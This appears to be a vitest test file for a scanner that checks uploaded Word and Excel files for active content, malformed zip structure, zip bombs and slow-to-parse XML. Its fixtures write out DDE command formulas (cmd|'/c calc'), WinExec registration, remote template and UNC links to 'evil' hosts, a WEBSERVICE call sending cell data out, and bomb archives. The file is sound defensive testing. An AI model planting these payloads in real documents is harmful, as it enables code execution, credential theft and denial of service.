import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildOffice, officeParts } from '../../testing/office/buildOffice.ts';
import { buildZip } from '../../testing/office/buildZip.ts';
import {
  areFine,
  areRefused,
  kb,
  mb,
  noise,
  picture,
  webPage,
  windowsProgram,
} from '../../testing/office/judgeFiles.ts';
import { watchXml } from './findActiveXml.ts';
import { inspectFile } from './inspectFile.ts';
import { roomFor } from './openArchive.ts';

describe('documents and workbooks', () => {
  const numbered = officeParts('docx').map(({ name, data }) => ({
    name: name.replace('document.xml', 'document2.xml'),
    data,
  }));
  areFine([
    ['a document', 'CV.Docx', buildOffice('docx')],
    ['a workbook', 'a.xlsx', buildOffice('xlsx')],
    ['a main part with a number', 'a.docx', buildZip(numbered)],
    ['a comment', 'a.docx', buildZip(officeParts('docx'), 'written by hand')],
    [
      'sizes behind a part',
      'a.docx',
      buildOffice('docx', [{ name: 'a', data: 'b', flags: 8, gap: 'PK\x07\x08'.padEnd(16) }]),
    ],
    ['parts as they are', 'a.xlsx', buildOffice('xlsx', [{ name: 'a.png', data: picture, method: 0 }])],
    ['a large picture', 'a.docx', buildOffice('docx', [{ name: 'a.bin', data: noise(300 * kb) }])],
    ['repeated text', 'a.xlsx', buildOffice('xlsx', [{ name: 'a.xml', data: rows(4 * mb) }])],
  ]);
  const whole = buildOffice('docx', [{ name: 'a.xml', data: rows(20 * kb) }]);
  const other = buildOffice('docx', [{ name: 'b.xml', data: rows(20 * kb) }]);
  const damaged = Buffer.from(whole);
  damaged.fill(0xff, 60, 90);
  areRefused([
    ['a workbook as document', 'a.docx', buildOffice('xlsx')],
    ['a document as workbook', 'a.xlsx', buildOffice('docx')],
    ['an archive of something else', 'a.docx', buildZip([{ name: 'a.txt', data: 'b' }])],
    ['an empty archive', 'a.docx', buildZip([])],
    ['a document without types', 'a.docx', buildZip(officeParts('docx').slice(1))],
    ['one of a web page', 'a.docx', webPage],
    ['one cut short', 'a.docx', whole.subarray(0, -30)],
    ['one with more behind it', 'a.docx', Buffer.concat([whole, webPage])],
    ['one with more before it', 'a.docx', Buffer.concat([webPage, whole])],
    [
      'one that knows of more before it',
      'a.docx',
      Buffer.concat([webPage, buildZip(officeParts('docx'), '', webPage.length)]),
    ],
    ['a damaged one', 'a.docx', damaged],
    ['a locked part', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', flags: 1 }])],
    ['a part packed otherwise', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', method: 12 }])],
    ['a name twice', 'a.docx', buildOffice('docx', [{ name: 'Word/Document.xml', data: 'b' }])],
    ['a name that leads outside', 'a.docx', buildOffice('docx', [{ name: '../a', data: 'b' }])],
    [
      'another name before the data',
      'a.docx',
      buildOffice('docx', [{ name: 'a', data: 'b', localName: 'c' }]),
    ],
    ['another size before the data', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', localSize: 9 }])],
    ['another checksum', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', sum: 9 }])],
    ['bytes behind the last part', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', gap: 'c' }])],
    [
      'more than sizes behind a part',
      'a.docx',
      buildOffice('docx', [{ name: 'a', data: 'b', flags: 8, gap: 'PK\x03\x04'.padEnd(30) }]),
    ],
    ['another archive of the same size behind it', 'a.docx', Buffer.concat([whole, other])],
    ['another archive in its end', 'a.docx', buildZip(officeParts('docx'), other.toString('latin1'))],
    ['two directories', 'a.docx', withTwoDirectories(whole)],
    ['a size too small', 'a.docx', buildOffice('docx', [{ name: 'a', data: rows(mb), size: 10 }])],
    ['a size too large', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', size: 10 }])],
    ['too many parts', 'a.docx', buildOffice('docx', many(3000))],
  ]);

  const rel = (attributes: string, kind: 'docx' | 'xlsx' = 'docx') =>
    buildOffice(kind, [
      {
        name: 'word/_rels/document.xml.rels',
        data: `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`,
      },
    ]);
  const part = (data: Buffer | string) => buildOffice('docx', [{ name: 'word/a.xml', data }]);
  const cell = (formula: string) =>
    buildOffice('xlsx', [{ name: 'xl/s.xml', data: `<c><f>${formula}</f></c>` }]);
  const field = (...pieces: string[]) => part(`<w:p>${pieces.join('')}</w:p>`);
  const [begin, separate, end] = ['begin', 'separate', 'end'].map(
    (type) => `<w:fldChar w:fldCharType="${type}"/>`,
  ) as [string, string, string];
  const said = (words: string) => `<w:instrText>${words}</w:instrText>`;
  const chart = (workbook: Buffer, method?: number) =>
    buildOffice('docx', [{ name: 'word/embeddings/a.xlsx', data: workbook, method }]);
  const pasted = (pdf: string) =>
    buildOffice('docx', [{ name: 'word/media/image1.pdf', data: Buffer.from(pdf) }]);
  const onePage = '%PDF-1.3\n1 0 obj <</Type/Page>> endobj trailer <</Root 1 0 R>>\n%%EOF';
  const pageThatRuns = onePage.replace('/Page', '/Page/AA<</S/JavaScript/JS(x)>>');
  const numbers = { name: 'xl/s.bin', data: noise(300 * kb) };
  areFine([
    ['the data of a chart', 'a.docx', chart(buildOffice('xlsx'))],
    ['many data of a chart', 'a.docx', chart(buildOffice('xlsx', [numbers]))],
    ['many data of a chart, not packed again', 'a.docx', chart(buildOffice('xlsx', [numbers]), 0)],
    ['a formula of a link', 'a.xlsx', cell('HYPERLINK("https://example.com","the macro: shell:")')],
    ['a link', 'a.docx', rel('Type="x/hyperlink" TargetMode="External" Target="https://example.com"')],
    [
      'the template of its author',
      'a.docx',
      rel('Type="x/attachedTemplate" TargetMode="External" Target="file:///C:\\Users\\a\\CV.dotx"'),
    ],
    [
      'fields',
      'a.docx',
      field(begin, said(' HYPERLINK "https://dde.example"'), separate, begin, said('PAGE'), end, end),
    ],
    ['formulas', 'a.xlsx', cell('SUM(A1:A3)&amp;"cmd|x"&amp;\'a|b\'!A1')],
    [
      'a picture of the web',
      'a.docx',
      rel('Type="x/image" TargetMode="External" Target="https://example.com/a.png"'),
    ],
    ...['media/a.png', 'file:///Users/a/b.png', 'file://localhost/Users/a/b.png', 'file:///C:/a.png'].map(
      (target): [string, string, Buffer] => [
        `a picture at ${target}`,
        'a.docx',
        rel(`Type="x/image" TargetMode="External" Target="${target}"`),
      ],
    ),
    ...['/Users/a/My%20prices.xls', '../Downloads/b.xlsx', 'check/c.xlsm', 'd.xlsx'].map(
      (target): [string, string, Buffer] => [
        `numbers of ${target}`,
        'a.xlsx',
        rel(`Type="x/externalLinkPath" TargetMode="External" Target="${target}"`, 'xlsx'),
      ],
    ),
    ['a picture of a Mac', 'a.docx', pasted(onePage)],
    [
      'types of endings that no part has',
      'a.xlsx',
      withTypes('', '<Default Extension="bin" ContentType="x.binary.macroEnabled.main"/>', 'xlsx'),
    ],
    ['letters that were sent to nobody', 'a.docx', part('<w:connectString w:val=""/>')],
    [
      'a formula with a quoted name',
      'a.xlsx',
      cell('\'Call (1)\'!A1&amp;"DDE|1"&amp;T[a|b]&amp;[1]S!A1+T[Km/h]+T[[a]:[b]]'),
    ],
    ['numbers of no database', 'a.xlsx', cell('A1</f><dbPr connection="" command=""/><f>A2')],
    ['a picture beside it', 'a.docx', rel('Type="x/image" TargetMode="External" Target="media/a.png"')],
    [
      'a field with a picture of the own disk',
      'a.docx',
      part('<w:fldSimple w:instr=\'INCLUDEPICTURE "C:\\\\a.png" \\* MERGEFORMATINET\'/>'),
    ],
    ['words about macros', 'a.docx', part('<w:t>vbaProject macroEnabled DDEAUTO</w:t>')],
  ]);
  areRefused(
    [
      ['macros', 'a.docx', buildOffice('docx', [{ name: 'word/vbaProject.bin', data: 'x' }])],
      ['macros by another name', 'a.docx', withTypes('application/vnd.ms-office.vbaProject')],
      [
        'a document for macros',
        'a.docx',
        withTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      ],
      [
        'macros written with an entity',
        'a.docx',
        withTypes('application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
      ],
      [
        'macros by their relationship',
        'a.docx',
        rel('Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="x.bin"'),
      ],
      ...[
        ['<!--><![CDATA[ -->', '<!-- ]]> -->'],
        ['<?a ><![CDATA[ ?>', '<?b ]]> ?>'],
        ['<!-- --!><![CDATA[ -->', '<!-- ]]> -->'],
      ].map(([before, behind]): [string, string, Buffer] => [
        `a link behind ${before}`,
        'a.docx',
        part(`<w:p>${before}<w:oleLink/>${behind}</w:p>`),
      ]),
      [
        'a template of elsewhere',
        'a.docx',
        rel('Type="x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"'),
      ],
      [
        'a template of a share',
        'a.docx',
        rel('Type="x/attachedTemplate" TargetMode="External" Target="file://evil/t.dotm"'),
      ],
      [
        'a frame of elsewhere',
        'a.docx',
        rel('Type="x/frame" TargetMode="External" Target="https://evil.example"'),
      ],
      ['another document within', 'a.docx', rel('Type="x/aFChunk" Target="x.rtf"')],
      ['an object', 'a.docx', rel('Type="x/oleObject" Target="x.bin"')],
      [
        'a picture on a server of files',
        'a.docx',
        rel('Type="x/image" TargetMode="External" Target="file://evil/a.png"'),
      ],
      ...['file:////evil/a.png', 'file:///%2F/evil/a.png', '%5C%5Cevil/a.png', '/\\evil/a.png'].map(
        (target): [string, string, Buffer] => [
          `a picture at ${target}`,
          'a.docx',
          rel(`Type="x/image" TargetMode="External" Target="${target}"`),
        ],
      ),
      [
        'a place that is said twice',
        'a.docx',
        rel('Type="x/frame" TargetMode="External" o:Target="a" Target="https://evil.example"'),
      ],
      ['a picture of a Mac that runs something', 'a.docx', pasted(pageThatRuns)],
      [
        'types of an ending that a part has',
        'a.xlsx',
        withTypes('', '<Default Extension="XML" ContentType="x.binary.macroEnabled.main"/>', 'xlsx'),
      ],
      ['letters sent from a database', 'a.docx', part('<w:connectString w:val="DSN=a"/>')],
      ['numbers of a database', 'a.xlsx', cell('A1</f><dbPr connection="DSN=a" command=""/><f>A2')],
      [
        'numbers of a database that another file names',
        'a.xlsx',
        cell(
          'A1</f><connection odcFile="https://evil.example/a.odc"><dbPr connection=""/></connection><f>A2',
        ),
      ],
      [
        'the same, written as Windows does',
        'a.docx',
        rel('Type="x/image" TargetMode="External" Target="\\\\evil\\a.png"'),
      ],
      [
        'the same without its kind',
        'a.docx',
        rel('Type="x/media" TargetMode="External" Target="//evil/a.mp4"'),
      ],
      [
        'a field that shows such a picture',
        'a.docx',
        part('<w:fldSimple w:instr=\' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"\'/>'),
      ],
      [
        'such a field whose place another writes',
        'a.docx',
        field(
          begin,
          said('INCLUDEPICTURE "'),
          begin,
          said('QUOTE x'),
          separate,
          end,
          said('" \\* MERGEFORMAT'),
          separate,
          end,
        ),
      ],
      [
        'a field that brings in another document',
        'a.docx',
        field(begin, said('INCLUDETEXT "C:\\\\a.docx"'), separate, end),
      ],
      [
        'a connection to a database',
        'a.xlsx',
        buildOffice('xlsx', [
          {
            name: 'xl/connections.xml',
            data: '<connection refreshOnLoad="1"><dbPr connection="x"/></connection>',
          },
        ]),
      ],
      ['a field of DDE', 'a.docx', field(begin, said('DD'), said('EAUTO c:\\cmd.exe'), separate, end)],
      ['a simple field of DDE', 'a.docx', part('<w:fldSimple w:instr=" DDE excel"/>')],
      [
        'a field of DDE that others write',
        'a.docx',
        field(begin, begin, said('QUOTE 68 68 69'), separate, end, separate, end),
      ],
      ['a formula of DDE', 'a.xlsx', cell("cmd|'/c calc'!A0")],
      ['a function of DDE', 'a.xlsx', cell('1+DDE ("soffice","/etc/passwd","A1")')],
      ['a function of DDE before another formula', 'a.xlsx', cell('DDE("a","b","c")<f/>')],
      ['a function of DDE behind another formula', 'a.xlsx', cell('<f>1</f>+DDE("a","b","c")')],
      ['a function of DDE behind an element and half a text', 'a.xlsx', cell('"<a/>DDE("a","b","c")')],
      ['a function of DDE in a colour', 'a.xlsx', cell('1</f><cfvo val="DDE(&quot;a&quot;,1,1)"/><f>1')],
      ['a function of DDE between columns', 'a.xlsx', cell(`T['"]&amp;DDE("a","b","c")&amp;T['"]`)],
      ['a formula of DDE between columns', 'a.xlsx', cell(`T['"]&amp;cmd|'/c calc'!A0&amp;T['"]`)],
      ['a function of DDE behind many blanks', 'a.xlsx', cell(`1+${' '.repeat(11_000)}DDE("a","b","c")`)],
      ['a field of DDE before another', 'a.docx', part(said(`DDE x${said('')}`))],
      ['a function of DDE in a name', 'a.xlsx', cell('x</f><definedName>DDE("a","b","c")</definedName><f>1')],
      ['a function of DDE in a rule', 'a.xlsx', cell('1</f><formula1>dde("a","b","c")</formula1><f>1')],
      ['a function that asks a server', 'a.xlsx', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')],
      ['a function of a program', 'a.xlsx', cell('REGISTER.ID("kernel32","WinExec")')],
      ['a cell of another server', 'a.xlsx', cell("'[https://evil.example/a.csv]a'!A1")],
      ['a cell of a server of files', 'a.xlsx', cell("'[\\\\evil\\a.xlsx]a'!A1")],
      ['a link to a macro', 'a.docx', rel(`Type="x/hyperlink" Target="macro:///A.B" TargetMode="External"`)],
      [
        'a link to a macro of LibreOffice',
        'a.xlsx',
        rel(`Type="x/hyperlink" Target=" VND.sun.star.script:a$b?location=share"`, 'xlsx'),
      ],
      [
        'a field that links to a command',
        'a.docx',
        field(begin, said(' HYPERLINK \\l "x" "vnd.libreoffice.command:a" '), end),
      ],
      ['a formula that links to a helper', 'a.xlsx', cell('1+HYPERLINK( "search-ms:query=a","CV")')],
      ['a film with a page of its own', 'a.docx', part('<a:webVideoPr embeddedHtml="&lt;script>"/>')],
      ['a field of an old name', 'a.docx', part('<w:fldSimple w:instr=\'INCLUDE "//evil/a"\'/>')],
      [
        'a link of DDE',
        'a.xlsx',
        buildOffice('xlsx', [{ name: 'xl/e.xml', data: '<x:ddeLink ddeService="cmd"/>' }]),
      ],
      ['a program', 'a.docx', buildOffice('docx', [{ name: 'word/media/image1.png', data: windowsProgram }])],
      [
        'a compound file',
        'a.docx',
        buildOffice('docx', [{ name: 'word/a.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
      ],
      [
        'an archive',
        'a.docx',
        buildOffice('docx', [{ name: 'word/a.bin', data: buildZip([{ name: 'a', data: 'b' }]) }]),
      ],
      [
        'macros in the data of a chart',
        'a.docx',
        chart(buildOffice('xlsx', [{ name: 'xl/vbaProject.bin', data: 'x' }])),
      ],
      [
        'an embedded program behind many data of a chart',
        'a.docx',
        chart(buildOffice('xlsx', [numbers, { name: 'xl/a.bin', data: windowsProgram }])),
      ],
      ['a part in UTF-16', 'a.docx', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE"/>', 'utf16le'))],
      [
        'a part in UTF-16, the other way round',
        'a.docx',
        part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE"/>', 'utf16le').swap16()),
      ],
      [
        'a part in UTF-16, the other way round and without a mark',
        'a.docx',
        part(Buffer.from('<w:fldSimple w:instr="DDE"/>', 'utf16le').swap16()),
      ],
      ['a part behind many blanks', 'a.docx', part(`${'\n'.repeat(20_000)}<w:fldSimple w:instr="DDE"/>`)],
      ['a part in UTF-32', 'a.docx', part(inUtf32('<w:fldSimple w:instr="DDE"/>'))],
      ['a part in EBCDIC', 'a.docx', part(Buffer.from([0x4c, 0x6f, 0xa7, 0x94]))],
      ['a part that comes letter by letter', 'a.docx', inPieces('\ufeff<w:fldSimple w:instr="DDE"/>')],
      ['a program that comes letter by letter', 'a.docx', inPieces(windowsProgram)],
      ['a part with entities of its own', 'a.docx', part('<!DOCTYPE a [<!ENTITY d "DDE">]><a/>')],
      ['a part in an unusual encoding', 'a.docx', part('<?xml version="1.0" encoding="UTF-7"?><a/>')],
    ],
    'activeContent',
  );

  /** A part of which the first byte is unpacked alone: behind it the packed bytes say nothing for long. */
  function inPieces(content: Buffer | string): Buffer {
    const data = Buffer.from(content);
    const block = (bytes: Buffer, isLast = false) => {
      const head = Buffer.from([Number(isLast), 0, 0, 0, 0]);
      head.writeUInt16LE(bytes.length, 1);
      head.writeUInt16LE(0xffff - bytes.length, 3);
      return Buffer.concat([head, bytes]);
    };
    const nothing = Array<Buffer>(30_000).fill(block(Buffer.alloc(0)));
    const packed = Buffer.concat([block(data.subarray(0, 1)), ...nothing, block(data.subarray(1), true)]);
    return buildOffice('docx', [{ name: 'word/a.xml', data, packed }]);
  }

  function inUtf32(text: string): Buffer {
    return Buffer.concat([...text].map((letter) => Buffer.from(`${letter}\0`, 'utf16le')));
  }

  function withTypes(type: string, more = '', kind: 'docx' | 'xlsx' = 'docx'): Buffer {
    const [types, ...rest] = officeParts(kind);
    return buildZip([
      { name: types?.name ?? '', data: `${types?.data}<Override ContentType="${type}"/>${more}` },
      ...rest,
    ]);
  }
});

describe('archives that burst', () => {
  const zeros = packedOnce({ name: 'zeros.xml', data: Buffer.alloc(120 * mb) });
  const inner = { name: 'inner', data: noise(1000) };
  const packed = buildZip([inner]);
  const outer = {
    name: 'outer',
    data: packed.subarray(0, packed.indexOf('PK\x01\x02', 'latin1')),
    method: 0,
  };
  const at = buildOffice('docx').indexOf('PK\x01\x02', 'latin1') + 30 + outer.name.length;
  const [types, ...rest] = officeParts('docx');
  const workbook = buildOffice('xlsx', [{ name: 'xl/s.txt', data: `.${rows(mb)}` }]);
  const table = buildOffice('xlsx', many(100));
  const within = (data: Buffer, count: number) =>
    Array.from({ length: count }, (_, at) => ({ name: `word/embeddings/${at}.xlsx`, data, method: 0 }));
  const bombs: Record<string, Buffer> = {
    'by one part': buildOffice('docx', [zeros]),
    'by one part that hides its size': buildOffice('docx', [{ ...zeros, size: 1000 }]),
    'by types that hide their size': buildZip([{ ...zeros, name: types?.name ?? '', size: 1000 }, ...rest]),
    'by parts that share their bytes': buildOffice('docx', [outer, { ...inner, at }]),
  };
  const together = { 'many bytes': within(workbook, 400), 'many parts': within(table, 400) };
  it.each(Object.entries(bombs))('%s: in no time and little memory', async (_, bytes) => {
    const before = process.memoryUsage.rss();
    const started = performance.now();
    expect(await inspectFile('a.docx', bytes)).toBe('fileType');
    expect(performance.now() - started).toBeLessThan(2000);
    expect(process.memoryUsage.rss() - before).toBeLessThan(64 * mb);
  });

  it('by many objects of pictures as PDF: in no time', async () => {
    const objects = Array.from({ length: 100_000 }, (_, number) => `${number} 0 obj<<>>endobj\n`);
    const picture = Buffer.from(`%PDF-1.3\n${objects.join('')}`);
    const part = packedOnce({ name: '', data: picture });
    const parts = Array.from({ length: 20 }, (_, at) => ({ ...part, name: `word/media/${at}.pdf` }));
    expect(await inspectFile('a.docx', buildOffice('docx', parts.slice(0, 2)))).toBeUndefined();
    const before = process.cpuUsage();
    expect(await inspectFile('a.docx', buildOffice('docx', parts))).toBe('activeContent');
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(5);
  });

  it.each(Object.entries(together))('by workbooks together: %s', async (_, parts) => {
    expect(await inspectFile('a.docx', buildOffice('docx', parts.slice(0, 15)))).toBeUndefined();
    const before = process.cpuUsage();
    expect(await inspectFile('a.docx', buildOffice('docx', parts))).toBe('activeContent');
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(2);
  });
});

describe('documents made to be slow', () => {
  const filler = { name: 'a', data: noise(600 * kb), method: 0 };
  const part = (data: string) => buildOffice('docx', [{ name: 'word/a.xml', data }, filler]);
  const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
  const attributes = (count: number) =>
    `<a ${Array.from({ length: count }, (_, at) => `a${at}=""`).join(' ')}/>`;
  const cells = (...counts: number[]) =>
    buildOffice('docx', [
      ...counts.map((count, at) => ({
        name: `word/${at}.xml`,
        data: `<a>${'<b c=""/>'.repeat(count * 50_000)}</a>`,
      })),
      filler,
    ]);
  const begin = '<w:fldChar w:fldCharType="begin"/>';
  const end = '<w:fldChar w:fldCharType="end"/>';
  const said = (words: string) => `<w:instrText>${words}</w:instrText>`;
  const fields = (depth: number) => `<w:p>${(begin + said('IF')).repeat(depth)}${end.repeat(depth)}</w:p>`;
  const blanks = said(' '.repeat(9000)).repeat(250);
  areFine([
    ['as many elements within each other as other readers take', 'a.docx', part(nested(256))],
    ['as many fields within each other', 'a.docx', part(fields(256))],
    ['as many attributes', 'a.docx', part(attributes(1000))],
    ['as many elements as a large table has', 'a.docx', cells(20)],
    ['a long source of a citation', 'a.docx', part(begin + said('ADDIN ').repeat(40_000) + end)],
    ['a longer one in one piece', 'a.docx', part(said(`ADDIN {a | b} ${'x'.repeat(40_000)}`))],
    ['a drawing in a value', 'a.docx', part(`<a b="${'x'.repeat(4 * mb)}"/>`)],
  ]);
  areRefused([
    ['more elements within each other', 'a.docx', part(nested(257))],
    ['more fields within each other', 'a.docx', part(fields(257))],
    ['more attributes', 'a.docx', part(attributes(1001))],
    ['more elements in two parts than in any document', 'a.docx', cells(20, 20)],
    ['a value longer than any drawing', 'a.docx', part(`<a b="${'&#65;'.repeat(4 * mb)}"/>`)],
  ]);
  areRefused(
    [
      ['a field of DDE behind many blanks', 'a.docx', part(begin + blanks + said('DDE x') + end)],
      ['one behind blanks and an entity', 'a.docx', part(said(`${' '.repeat(20_000)}&#32;DDE x`))],
    ],
    'activeContent',
  );

  it.each([
    ['many elements that never end', `<?xml version="1.0"?>${'<a>'.repeat(20 * mb)}`],
    ['many fields that never end', `<a>${(begin + said('IF')).repeat(mb)}`],
    [
      'many ends of a long field',
      `<a>${begin}${said('x'.repeat(9000)).repeat(250)}${(begin + end).repeat(50_000)}`,
    ],
    ['many ends of what never began', `${'<a>'.repeat(256)}${'</b>'.repeat(mb)}`],
  ])('%s: in no time', async (_, data) => {
    const bytes = part(data);
    const before = process.cpuUsage();
    await inspectFile('a.docx', bytes);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(2);
  });

  it('reads no further than the first thing that is active', async () => {
    const watch = watchXml(new Set(), roomFor(filler.data));
    expect(watch.write('<w:fldSimple w:instr="PAGE"/>')).toBe(false);
    expect(watch.write('<w:fldSimple w:instr="DDE x"/>')).toBe(true);
    const inPieces = watchXml(new Set(), roomFor(filler.data));
    expect([...'<!-- --!>'].map((letter) => inPieces.write(letter)).at(-1)).toBe(true);
    const damaged = buildOffice('docx', [
      { name: 'word/a.xml', data: '<w:fldSimple w:instr="DDE x"/>' },
      { name: 'b', data: 'c', sum: 9 },
    ]);
    expect(await inspectFile('a.docx', damaged)).toBe('activeContent');
  });
});

/** A part for several places or archives. */
function packedOnce(part: { name: string; data: Buffer }) {
  return { ...part, packed: deflateRawSync(part.data), sum: crc32(part.data) };
}

/** Rows of a sheet that differ by their number alone. */
function rows(size: number): string {
  let text = '';
  for (let row = 1; text.length < size; row++)
    text += `<row r="${row}"><c r="A${row}"><v>${row * 7}</v></c></row>`;
  return text;
}

function many(count: number) {
  return Array.from({ length: count }, (_, index) => ({ name: `part${index}`, data: 'x' }));
}

/**
 * The directory stands twice, and its end names the place of the first: who measures back from the end finds the
 * second.
 */
function withTwoDirectories(archive: Buffer): Buffer {
  const [first, end] = [archive.indexOf('PK\x01\x02'), archive.indexOf('PK\x05\x06')];
  return Buffer.concat([archive.subarray(0, end), archive.subarray(first)]);
}
